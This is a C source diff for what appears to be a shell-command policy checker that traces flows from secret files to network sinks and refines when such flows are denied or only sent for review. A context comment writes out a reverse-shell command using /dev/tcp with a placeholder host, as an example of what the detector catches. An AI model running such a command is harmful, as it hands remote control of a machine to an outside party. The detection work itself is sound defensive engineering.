@@ -15,13 +15,47 @@ static bool is_point(const cp_judge *j, uint32_t effect, uint32_t point) {
     }
 }
 
+/* Is it a path of which nothing at all is certain? Then it only may be a secret's, as it may be any file's. */
+static bool is_any_path(const cp_effect *e) {
+    bool any = e->object_kind == CP_OBJECT_PATH && e->target.atom_count > 0;
+    for (uint32_t i = 0; i < e->target.atom_count && any; i++)
+        any = e->target.atoms[i].kind == CP_ATOM_HOLE && e->target.atoms[i].lit.n && !e->target.atoms[i].origin;
+    return any;
+}
+
+/* Does the flow's own verdict count for what comes from there? A deny that only may hold is a review. */
+static bool is_source(const cp_judge *j, uint32_t effect, uint32_t from) {
+    return is_point(j, effect, from) &&
+           (from != CP_FLOW_SECRETS || !is_any_path(&j->calls->effects[effect].effect));
+}
+
+/* Is the call that other one, or what it runs? Its descriptors, and its words, are then the other's. */
+static bool runs_within(const cp_calls *calls, uint32_t call, uint32_t other) {
+    while (call < calls->call_count && call != other)
+        call = calls->calls[call].parent;
+    return call == other;
+}
+
+/* The calls that hold what this effect brings: its own, and those that it runs where a variable stands among its words. */
+static void mark_source(const cp_judge *j, uint32_t effect, uint8_t *reached) {
+    const cp_call_effect *e = &j->calls->effects[effect];
+    if (e->call >= j->calls->call_count)
+        return;
+    reached[e->call] = 1;
+    for (uint32_t i = e->call + 1; e->effect.object_kind == CP_OBJECT_VARIABLE && i < j->calls->call_count &&
+                                   cp_step(j->budget);
+         i++)
+        if (runs_within(j->calls, i, e->call))
+            reached[i] = 1;
+}
+
 /* Calls that get what no call reads: a file from which a group's standard input or a substitution is. */
 static void read_by_redirection(const cp_judge *j, uint32_t from, uint8_t *reached, uint8_t *by_words) {
     const cp_calls *calls = j->calls;
     for (uint32_t i = 0; i < calls->flow_count && cp_step(j->budget); i++) {
         const cp_flow *f = &calls->flows[i];
         for (uint32_t k = 0; k < f->read_count && f->read_first + k < calls->effect_count; k++)
-            if (f->to < calls->call_count && is_point(j, f->read_first + k, from)) {
+            if (f->to < calls->call_count && is_source(j, f->read_first + k, from)) {
                 reached[f->to] = 1;
                 by_words[f->to] |= !f->by_stdin;
             }
@@ -85,13 +119,6 @@ static void say(cp_judge *j, const cp_layer_image *layer, const cp_rec_flow *flo
     cp_add_reason(j, &reason);
 }
 
-/* Is the call that other one, or what it runs? Its descriptors are then the other's. */
-static bool runs_within(const cp_calls *calls, uint32_t call, uint32_t other) {
-    while (call < calls->call_count && call != other)
-        call = calls->calls[call].parent;
-    return call == other;
-}
-
 /* An interpreter whose descriptors are a connection (bash -i >& /dev/tcp/HOST/PORT 0>&1), or one that reads a descriptor while a
  * connection is open somewhere in the request. */
 static bool by_descriptor(const cp_judge *j, uint32_t sink) {
@@ -140,6 +167,24 @@ static void count(cp_judge *j, uint32_t call, cp_verdict verdict) {
     j->out->verdict = cp_strictest((cp_verdict)j->out->verdict, verdict);
 }
 
+/* pandoc "$d/.env": the one word is a file's name or an address, and nothing else comes to this call from there. */
+static bool are_alternatives(const cp_judge *j, uint32_t sink, uint32_t from) {
+    const cp_call_effect *s = &j->calls->effects[sink];
+    if (s->effect.sure == CP_YES)
+        return false;
+    for (uint32_t i = 0; i < j->calls->flow_count && cp_step(j->budget); i++)
+        if (j->calls->flows[i].to == s->call)
+            return false;
+    for (uint32_t i = 0; i < j->calls->effect_count && cp_step(j->budget); i++) {
+        const cp_call_effect *e = &j->calls->effects[i];
+        bool same = e->call == s->call && e->effect.origin.kind == s->effect.origin.kind &&
+                    e->effect.origin.index == s->effect.origin.index;
+        if (!same && is_source(j, i, from) && (e->call == s->call || runs_within(j->calls, s->call, e->call)))
+            return false;
+    }
+    return true;
+}
+
 static void judge_flow(cp_judge *j, const cp_layer_image *layer, const cp_rec_flow *flow, uint8_t *reached,
                        uint8_t *by_words) {
     uint32_t calls = j->calls->call_count, first = 0;
@@ -153,8 +198,8 @@ static void judge_flow(cp_judge *j, const cp_layer_image *layer, const cp_rec_fl
     cp_verdict own = cp_verdict_of(choice.verdict);
     memset(reached, 0, calls);
     for (uint32_t i = first; i < j->calls->effect_count && cp_step(j->budget); i++)
-        if (is_point(j, i, flow->from) && j->calls->effects[i].call < calls)
-            reached[j->calls->effects[i].call] = 1;
+        if (is_source(j, i, flow->from))
+            mark_source(j, i, reached);
     uint8_t *source = by_words + calls;
     memcpy(source, reached, calls);
     memcpy(by_words, reached, calls);
@@ -174,7 +219,7 @@ static void judge_flow(cp_judge *j, const cp_layer_image *layer, const cp_rec_fl
             joined |=
                 by_descriptor(j, i) || is_fetched(j, reached, &sink->effect.target, sink->base, sink->call);
         } else {
-            joined = sink->call < calls && reached[sink->call];
+            joined = sink->call < calls && reached[sink->call] && !are_alternatives(j, i, flow->from);
         }
         cp_verdict verdict = joined ? own : CP_REVIEW;
         if (verdict >= (cp_verdict)j->out->effect_verdicts[i] && !joined)
